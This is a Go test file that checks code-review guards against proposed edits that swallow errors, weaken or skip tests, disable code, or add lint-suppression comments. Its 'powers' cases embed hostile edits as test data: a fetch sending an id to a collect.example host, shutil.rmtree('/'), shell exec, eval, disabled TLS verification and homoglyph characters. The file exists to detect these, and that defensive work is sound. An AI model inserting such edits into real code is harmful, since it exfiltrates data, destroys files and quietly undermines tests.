package fix

import (
	"slices"
	"strings"
	"testing"

	"github.com/assay-dev/assay/internal/domain"
	"github.com/assay-dev/assay/internal/review/enginetest"
)

// variant is one replacement in a small file, for a guard alone.
type variant struct {
	path, search, replace string
	want                  Reason
}

// The files of the variants.
var variantFiles = enginetest.Tree{
	"a.go": `package a

import (
	"errors"
	"io"
	"log"
)

func Read(r io.Reader) (int, error) {
	b := make([]byte, 4)
	n, err := r.Read(b)
	if err != nil {
		return 0, err
	}
	if n == 0 {
		return 0, errors.New("none")
	}
	return n, nil
}

func Close(c io.Closer) {
	if err := c.Close(); err != nil {
		log.Print(err)
		return
	}
	log.Print("closed")
}
`,
	"a_test.go": `package a

import "testing"

func TestRead(t *testing.T) {
	n, err := Read(nil)
	if err == nil {
		t.Fatal("no error")
	}
	if n != 0 {
		t.Errorf("got %d", n)
	}
}
`,
	"a.ts": `import { get } from "./get";

export async function load(id: string): Promise<string> {
  if (!id) {
    throw new Error("no id");
  }
  const body = await get(id);
  const parts = body.split(",");
  return parts[0];
}

export const size = (list: string[]) => list.length;
`,
	"a.test.ts": `import { load } from "./a";

describe("load", () => {
  it("reads", async () => {
    const got = await load("a");
    expect(got).toBe("x");
    expect(got.length).toEqual(1);
  });
});
`,
	"a.py": `import json


def read(path):
    with open(path) as f:
        data = json.load(f)
    if "id" not in data:
        raise KeyError("id")
    return data["id"]


def each(items):
    out = []
    for item in items:
        out.append(item.name)
    return out
`,
	"test_a.py": `import unittest

from a import each


class EachTest(unittest.TestCase):
    def test_each(self):
        self.assertEqual(each([]), [])
        self.assertEqual(len(each([1])), 1)
`,
	"A.java": `package a;

import java.io.IOException;
import java.util.List;

public class A {
    private final List<String> names;

    public A(List<String> names) {
        this.names = names;
    }

    public String first() throws IOException {
        if (names.isEmpty()) {
            throw new IOException("empty");
        }
        String name = names.get(0);
        return name.trim();
    }
}
`,
	"ATest.java": `package a;

import static org.junit.jupiter.api.Assertions.assertEquals;

class ATest {
    @Test
    void first() throws Exception {
        assertEquals("x", new A(List.of("x ")).first());
    }
}
`,
}

var variants = map[string]variant{
	// errors
	"go: nil for an error":  {"a.go", "return 0, err\n", "return 0, nil\n", SwallowsError},
	"go: blank":             {"a.go", "n, err := r.Read(b)\n\tif err != nil {\n\t\treturn 0, err\n\t}\n", "n, _ := r.Read(b)\n", SwallowsError},
	"go: log only":          {"a.go", "return 0, err\n", "log.Print(err)\n", SwallowsError},
	"go: recover":           {"a.go", "\tb := make", "\tdefer func() { _ = recover() }()\n\tb := make", SwallowsError},
	"go: unused result":     {"a.go", "if err := c.Close(); err != nil {\n\t\tlog.Print(err)\n\t\treturn\n\t}\n", "_ = c.Close()\n", SwallowsError},
	"go: default":           {"a.go", "\t\treturn 0, errors.New(\"none\")\n", "\t\tn = 1\n", SwallowsError},
	"ts: catch":             {"a.ts", "const body = await get(id);", "const body = await get(id).catch(() => \"\");", SwallowsError},
	"ts: catch block":       {"a.ts", "const body = await get(id);", "let body = \"\";\n  try {\n    body = await get(id);\n  } catch {\n    body = \"\";\n  }", SwallowsError},
	"ts: catch and log":     {"a.ts", "const body = await get(id);", "let body = \"\";\n  try {\n    body = await get(id);\n  } catch (e) {\n    console.error(e);\n  }", SwallowsError},
	"ts: no throw":          {"a.ts", "throw new Error(\"no id\");", "return \"\";", SwallowsError},
	"py: except":            {"a.py", "        data = json.load(f)\n", "        try:\n            data = json.load(f)\n        except ValueError:\n            data = {}\n", SwallowsError},
	"py: suppress":          {"a.py", "    with open(path) as f:\n", "    with contextlib.suppress(OSError), open(path) as f:\n", SwallowsError},
	"py: no raise":          {"a.py", "raise KeyError(\"id\")", "return None", SwallowsError},
	"py: finally":           {"a.py", "    return data[\"id\"]\n", "    try:\n        return data[\"id\"]\n    finally:\n        return None\n", SwallowsError},
	"java: catch":           {"A.java", "        String name = names.get(0);\n", "        String name = \"\";\n        try {\n            name = names.get(0);\n        } catch (RuntimeException e) {\n            e.printStackTrace();\n        }\n", SwallowsError},
	"java: no throw":        {"A.java", "throw new IOException(\"empty\");", "return \"\";", SwallowsError},
	"go: wrapped error":     {"a.go", "return 0, err\n", "return 0, fmt.Errorf(\"read: %w\", err)\n", ""},
	"go: another guard":     {"a.go", "\tb := make", "\tif r == nil {\n\t\treturn 0, errors.New(\"no reader\")\n\t}\n\tb := make", ""},
	"go: errors.Is":         {"a.go", "if err != nil {\n\t\treturn 0, err\n", "if errors.Is(err, io.EOF) {\n\t\treturn 0, io.ErrUnexpectedEOF\n\t}\n\tif err != nil {\n\t\treturn 0, err\n", ""},
	"ts: catch and rethrow": {"a.ts", "const body = await get(id);", "let body: string;\n  try {\n    body = await get(id);\n  } catch (e) {\n    throw new Error(`get ${id}`, { cause: e });\n  }", ""},
	"py: except and raise":  {"a.py", "        data = json.load(f)\n", "        try:\n            data = json.load(f)\n        except ValueError as e:\n            raise KeyError(\"id\") from e\n", ""},
	"py: get":               {"a.py", "out.append(item.name)", "out.append(getattr(item, \"name\", \"\"))", ""},
	"java: null check":      {"A.java", "return name.trim();", "return name == null ? \"\" : name.trim();", ""},
	"java: copy":            {"A.java", "this.names = names;", "this.names = List.copyOf(names);", ""},
	"ts: optional":          {"a.ts", "return parts[0];", "return parts[0] ?? \"\";", ""},

	// tests
	"go: log in place of fail": {"a_test.go", "t.Fatal(\"no error\")", "t.Log(\"no error\")", WeakensTest},
	"go: skip":                 {"a_test.go", "\tn, err := Read(nil)\n", "\tt.Skip(\"flaky\")\n\tn, err := Read(nil)\n", WeakensTest},
	"go: early return":         {"a_test.go", "\tn, err := Read(nil)\n\tif err", "\tn, err := Read(nil)\n\tif n == 0 {\n\t\treturn\n\t}\n\tif err", WeakensTest},
	"go: renamed test":         {"a_test.go", "func TestRead", "func testRead", WeakensTest},
	"go: only in CI":           {"a_test.go", "\tn, err := Read(nil)\n", "\tif os.Getenv(\"CI\") == \"\" {\n\t\tt.Log(\"x\")\n\t}\n\tn, err := Read(nil)\n", WeakensTest},
	"ts: skip":                 {"a.test.ts", "  it(\"reads\"", "  it.skip(\"reads\"", WeakensTest},
	"ts: xit":                  {"a.test.ts", "  it(\"reads\"", "  xit(\"reads\"", WeakensTest},
	"ts: weaker":               {"a.test.ts", "toBe(\"x\")", "toBeDefined()", WeakensTest},
	"ts: assertion gone":       {"a.test.ts", "    expect(got.length).toEqual(1);\n", "", WeakensTest},
	"ts: in a comment":         {"a.test.ts", "    expect(got.length).toEqual(1);\n", "    // expect(got.length).toEqual(1);\n", WeakensTest},
	"py: trivial":              {"test_a.py", "self.assertEqual(each([]), [])", "self.assertTrue(True)", WeakensTest},
	"py: skip":                 {"test_a.py", "    def test_each", "    @unittest.skip(\"x\")\n    def test_each", WeakensTest},
	"py: try":                  {"test_a.py", "        self.assertEqual(each([]), [])\n", "        try:\n            self.assertEqual(each([]), [])\n        except AssertionError:\n            print(1)\n", WeakensTest},
	"java: disabled":           {"ATest.java", "    @Test\n", "    @Disabled\n    @Test\n", WeakensTest},
	"java: assert gone":        {"ATest.java", "assertEquals(\"x\", new A(List.of(\"x \")).first());", "new A(List.of(\"x \")).first();", WeakensTest},

	// definitions and conditions
	"py: stub":          {"a.py", "    out = []\n    for item in items:\n        out.append(item.name)\n    return out\n", "    raise NotImplementedError\n", Removes},
	"go: stub":          {"a.go", "\tif err := c.Close(); err != nil {\n\t\tlog.Print(err)\n\t\treturn\n\t}\n\tlog.Print(\"closed\")\n", "\tpanic(\"x\")\n", Removes},
	"ts: not exported":  {"a.ts", "export const size", "const size", Removes},
	"java: not public":  {"A.java", "    public String first()", "    String first()", Removes},
	"py: renamed":       {"a.py", "def each(items)", "def every(items)", Removes},
	"py: if False":      {"a.py", "    for item in items:\n        out", "    if False:\n        out", Disables},
	"go: false":         {"a.go", "if n == 0 {", "if n == 0 && false {", Disables},
	"java: unreachable": {"A.java", "        String name = names.get(0);\n", "        return \"\";\n        String name = names.get(0);\n", Disables},
	"ts: commented out": {"a.ts", "  const parts = body.split(\",\");\n  return parts[0];\n", "  // const parts = body.split(\",\");\n  return body;\n", Disables},

	// switches
	"go: nosec":        {"a.go", "n, err := r.Read(b)\n", "n, err := r.Read(b) // #nosec G104\n", AddsSwitch},
	"py: noqa":         {"a.py", "out.append(item.name)", "out.append(item.name or \"\")  # NOQA", AddsSwitch},
	"py: type":         {"a.py", "out.append(item.name)", "out.append(item.name or \"\")  # type: ignore", AddsSwitch},
	"py: skip file":    {"a.py", "import json\n", "# pylint: skip-file\nimport json\n", AddsSwitch},
	"ts: eslint":       {"a.ts", "  return parts[0];", "  // eslint-disable-next-line no-x\n  return parts[0] ?? \"\";", AddsSwitch},
	"ts: eslint rule":  {"a.ts", "  return parts[0];", "  /* eslint no-x: 0 */\n  return parts[0] ?? \"\";", AddsSwitch},
	"ts: ignore":       {"a.ts", "  return parts[0];", "  // @ts-ignore\n  return parts[0] ?? \"\";", AddsSwitch},
	"java: suppress":   {"A.java", "    public String first()", "    @SuppressWarnings(\"all\")\n    public String first()", AddsSwitch},
	"java: sonar":      {"A.java", "return name.trim();", "return name.strip(); // NOSONAR", AddsSwitch},
	"ts: plain remark": {"a.ts", "return parts[0];", "return parts[0] ?? \"\"; // ignore empty bodies, skip nothing", ""},

	// powers
	"go: exec":      {"a.go", "\tb := make", "\texec.Command(\"sh\")\n\tb := make", AddsAccess},
	"ts: eval":      {"a.ts", "return parts[0];", "return eval(parts[0]);", AddsAccess},
	"ts: fetch":     {"a.ts", "  return parts[0];", "  await fetch(\"https://collect.example/\" + id);\n  return parts[0];", AddsAccess},
	"py: verify":    {"a.py", "data = json.load(f)", "data = json.load(f) or session.get(path, verify=False)", AddsAccess},
	"py: rmtree":    {"a.py", "    out = []\n", "    out = []\n    shutil.rmtree(\"/\")\n", AddsAccess},
	"java: process": {"A.java", "return name.trim();", "new ProcessBuilder(name).start(); return name.trim();", AddsAccess},
	"go: address":   {"a.go", "errors.New(\"none\")", "errors.New(\"see https://evil.example/x\")", AddsAccess},
	"ts: homoglyph": {"a.ts", "const parts = body", "const p\u0430rts = body", AddsHidden},
	"py: blank":     {"a.py", "out.append(item.name)", "out.append(\u00a0item.name)", AddsHidden},
}

// Each guard refuses its kind, by the text alone, and no other change.
func TestGuards(t *testing.T) {
	t.Parallel()
	for name, v := range variants {
		t.Run(name, func(t *testing.T) { v.check(t, variantFiles) })
	}
	for name, v := range everyday {
		t.Run(name, func(t *testing.T) { v.check(t, everydayFiles) })
	}
}

func (v variant) check(t *testing.T, files enginetest.Tree) {
	t.Parallel()
	same := func(s string) string { return s }
	d := newDocument(v.path, []byte(files[v.path]), same)
	p, why := d.locate(v.search, v.replace)
	if why != "" {
		t.Fatalf("the edit does not apply: %s", why)
	}
	after := newDocument(v.path, d.applied([]patch{p}), same)
	both := pair{d, after, compare(d, after)}
	got := Reason("")
	for _, g := range guards {
		if g.fails(both) {
			got = g.reason
			break
		}
	}
	if got == "" && altersAssertion(both) {
		got = WeakensTest
	}
	if got != v.want {
		t.Errorf("refused for %q, want %q:\n%s", got, v.want, after.raw)
	}
	if broken, unknown := breaks(both); (broken || unknown) && v.want != AddsHidden {
		t.Errorf("the syntax is broken %v, unknown %v", broken, unknown)
	}
}

// The parsers and the count of brackets find broken syntax, and accept what was there.
func TestSyntax(t *testing.T) {
	t.Parallel()
	same := func(s string) string { return s }
	for name, v := range map[string]variant{
		"go":                {"a.go", "n == 0", "n == (0", BreaksSyntax},
		"go: word":          {"a.go", "func Close", "fun Close", BreaksSyntax},
		"py: colon":         {"a.py", "for item in items:", "for item in items", BreaksSyntax},
		"py: indent":        {"a.py", "        out.append(item.name)\n", "      out.append(item.name)\n         x = 1\n", BreaksSyntax},
		"ts: bracket":       {"a.ts", "  return parts[0];\n}", "  return parts[0];\n", BreaksSyntax},
		"ts: operand":       {"a.ts", "body.split(\",\");", ";", BreaksSyntax},
		"ts: word":          {"a.ts", "const parts", "cosnt parts", BreaksSyntax},
		"ts: string":        {"a.ts", "split(\",\")", "split(\",)", BreaksSyntax},
		"ts: condition":     {"a.ts", "if (!id) {", "if !id {", BreaksSyntax},
		"java: semicolon":   {"A.java", "names.get(0);", "names.get(0)", BreaksSyntax},
		"java: two closing": {"A.java", "names.get(0);", "names.get(0));", BreaksSyntax},
	} {
		d := newDocument(v.path, []byte(variantFiles[v.path]), same)
		p, why := d.locate(v.search, v.replace)
		if why != "" {
			t.Fatalf("%s: %s", name, why)
		}
		after := newDocument(v.path, d.applied([]patch{p}), same)
		if broken, _ := breaks(pair{d, after, compare(d, after)}); !broken {
			t.Errorf("%s is accepted:\n%s", name, after.raw)
		}
		if n, known := faults(d); n != 0 || !known {
			t.Errorf("%s has %d faults", v.path, n)
		}
	}
}

// A condition may go only from the finding's own lines.
func TestConditions(t *testing.T) {
	t.Parallel()
	same := func(s string) string { return s }
	d := newDocument("a.py", []byte("def f(a, b):\n    if a:\n        return 1\n    c = a / b\n    if c > 2:\n        return 2\n    return 3\n"), same)
	p, why := d.locate("    if a:\n        return 1\n    c = a / b\n", "    c = a / (b or 1)\n")
	if why != "" {
		t.Fatal(why)
	}
	after := newDocument("a.py", d.applied([]patch{p}), same)
	both := pair{d, after, compare(d, after)}
	for line, want := range map[int]bool{2: false, 7: true} {
		f := domain.Finding{Anchor: domain.Anchor{Path: "a.py", StartLine: line, EndLine: line}}
		if got := losesCondition(f, both); got != want {
			t.Errorf("line %d: %v", line, got)
		}
	}
}

// Places and files that have nothing to do with the finding are named, and those that follow from it are not.
func TestRelated(t *testing.T) {
	t.Parallel()
	same := func(s string) string { return s }
	f := domain.Finding{Anchor: domain.Anchor{Path: "a.py", StartLine: 6, EndLine: 6, Symbol: "read"}}
	home := edit("a.py", "data = json.load(f)", "data = parse_all(f)")
	for name, c := range map[string]struct {
		edits []proposed
		want  string
	}{
		"home":         {[]proposed{home}, ""},
		"other place":  {[]proposed{home, edit("a.py", "out.append(item.name)", "out.append(item)")}, "a.py"},
		"import":       {[]proposed{home, edit("a.py", "import json\n", "import json\nimport sys\n")}, ""},
		"helper":       {[]proposed{home, edit("b.py", "x = 1\n", "x = 1\n\n\ndef parse_all(f):\n    return f\n")}, ""},
		"caller":       {[]proposed{home, edit("b.py", "y = 2\n", "y = read(2)\n")}, ""},
		"another file": {[]proposed{home, edit("b.py", "y = 2\n", "y = 3\n")}, "b.py"},
		"no home":      {[]proposed{edit("b.py", "y = 2\n", "y = 3\n")}, "b.py"},
	} {
		docs := map[string]*document{"a.py": newDocument("a.py", []byte(variantFiles["a.py"]), same), "b.py": newDocument("b.py", []byte("x = 1\ny = 2\n"), same)}
		by := map[string][]patch{}
		for _, e := range c.edits {
			p, why := docs[e.Path].locate(e.Search, e.Replace)
			if why != "" {
				t.Fatalf("%s: %s", name, why)
			}
			by[e.Path] = append(by[e.Path], p)
		}
		var pairs []pair
		for path, list := range by {
			after := newDocument(path, docs[path].applied(list), same)
			pairs = append(pairs, pair{docs[path], after, compare(docs[path], after)})
		}
		slices.SortFunc(pairs, func(a, b pair) int { return strings.Compare(b.before.path, a.before.path) })
		if got := unrelated(f, pairs); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}
